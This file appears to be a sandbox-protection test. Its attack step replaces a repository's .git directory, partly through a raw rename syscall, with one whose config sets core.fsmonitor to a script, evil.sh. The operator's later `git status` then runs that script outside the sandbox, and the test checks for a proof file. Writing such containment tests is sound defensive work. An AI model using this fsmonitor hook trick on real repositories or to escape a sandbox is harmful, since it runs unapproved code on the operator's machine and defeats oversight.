"""Moves the whole .git away and puts one of its own there, with hooks and configuration.

layer: protect
control: without a sandbox the operator's `git status` runs the attacker's program
"""
import os

NEEDS = ["git"]


def scene(s):
    s.ws = s.cwd = s.t.git_repo()
    s.proof = os.path.join(s.outside, "proof")
    s.args = {"proof": s.proof, "ws": s.ws}


def attack(a):
    import subprocess
    put("evil.sh", f"#!/bin/sh\ntouch {a['proof']}\n")
    os.chmod("evil.sh", 0o755)
    attempt(os.rename, ".git", ".git.old")
    attempt(lambda: subprocess.run(["cp", "-a", ".git.old", ".git"], check=True))
    attempt(lambda: subprocess.run(["git", "init", "-q", "fresh"], check=True))
    attempt(put, "fresh/.git/config",
            f"[core]\n\tbare = false\n\tfsmonitor = {a['ws']}/evil.sh\n", "a")
    attempt(os.rename, "fresh/.git", ".git")
    attempt(lambda: syscall(316, -100, "fresh/.git", -100, ".git", 2))
    attempt(put, ".git/config", f"[core]\n\tfsmonitor = {a['ws']}/evil.sh\n", "a")


def escaped(s, r):
    s.t.run("git", "status", cwd=s.ws)
    return os.path.exists(s.proof)
